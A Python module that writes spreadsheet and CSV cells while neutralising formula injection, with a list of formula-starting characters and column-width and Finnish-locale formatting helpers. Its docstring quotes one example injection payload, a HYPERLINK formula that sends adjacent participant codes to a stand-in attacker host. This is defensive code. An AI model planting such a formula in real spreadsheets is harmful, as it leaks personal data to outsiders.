"""The guarded writer: every text cell of every spreadsheet Pilotti makes goes through here.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
openpyxl stores any text starting with ``=`` as one. Texts in Pilotti's files come from people
(free-text answers, instrument items, unit and segment names), so a text such as
``=HYPERLINK("https://evil.example/?"&A3, "Ohje")`` would otherwise become a live formula
in a coordinator's Excel, able to send the participant codes beside it elsewhere (CSV/formula
injection, OWASP). In XLSX a text cell is stored as text, never as a formula; in CSV, which has
no cell types, such a text gets a leading apostrophe, which spreadsheets hide and treat as "text".
"""

import csv
import io
from collections.abc import Iterable
from datetime import date, datetime
from typing import TYPE_CHECKING, Any

from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter

if TYPE_CHECKING:
    from _csv import _writer

# What makes a spreadsheet read a cell as a formula (tab and carriage return start one in CSV).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A text that a spreadsheet would run as a formula, with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return f"'{value}"
    return value


def write_csv_rows(writer: "_writer", rows: Iterable[Iterable[Any]]) -> None:
    writer.writerows([csv_safe(value) for value in row] for row in rows)


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """Appends the row to an openpyxl sheet with every text cell stored as text."""
    cells = []
    for value in row:
        cell = Cell(sheet, value=value)
        if cell.data_type == "f":  # openpyxl took a text starting with "=" for a formula
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)


# Column widths in characters: wide enough for a code or a date, never wider than a screen's third.
MIN_WIDTH, MAX_WIDTH = 8, 60


def write_table(sheet: Any, header: list[str], rows: Iterable[Iterable[Any]]) -> None:
    """A table on its own sheet, through ``append_row``: the header row frozen and filterable,
    each column as wide as its longest value (within MIN_WIDTH..MAX_WIDTH characters)."""
    widths = [len(str(name)) for name in header]
    append_row(sheet, header)
    for row in rows:
        values = list(row)
        append_row(sheet, values)
        for index, value in enumerate(values[: len(widths)]):
            if value is not None:
                widths[index] = max(widths[index], len(str(value)))
    sheet.freeze_panes = "A2"
    if header:
        sheet.auto_filter.ref = f"A1:{get_column_letter(len(header))}{max(sheet.max_row, 1)}"
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = min(MAX_WIDTH, max(MIN_WIDTH, width + 2))


def _cell(value: Any, *, finnish: bool) -> Any:
    """A value as a CSV cell: empty for none, 0/1 for truth, dates as ISO (or d.m.yyyy, which
    Finnish Excel reads as a date), numbers with a decimal point (or comma), text guarded."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, datetime):
        return f"{value:%-d.%-m.%Y %H:%M}" if finnish else value.isoformat()
    if isinstance(value, date):
        return f"{value:%-d.%-m.%Y}" if finnish else value.isoformat()
    if finnish and isinstance(value, float):
        # Excel (suomi) reads "4.0" as text or a date, "1,3" as a number: whole numbers plain.
        return str(int(value)) if value.is_integer() else repr(value).replace(".", ",")
    return csv_safe(value)


def csv_bytes(header: list[str], rows: Iterable[Iterable[Any]], *, finnish: bool = False) -> bytes:
    """A CSV file in UTF-8 with a byte-order mark (without it Excel shows ä and ö broken), CRLF
    line ends and every text guarded. Standard: comma-separated with a decimal point, what R,
    Python, SPSS and Stata read by default. ``finnish``: "Excel (suomi)", semicolon-separated with
    a decimal comma, what Excel in a Finnish locale opens by double-click into columns."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";" if finnish else ",", lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([_cell(value, finnish=finnish) for value in row] for row in rows)
    return out.getvalue().encode("utf-8-sig")
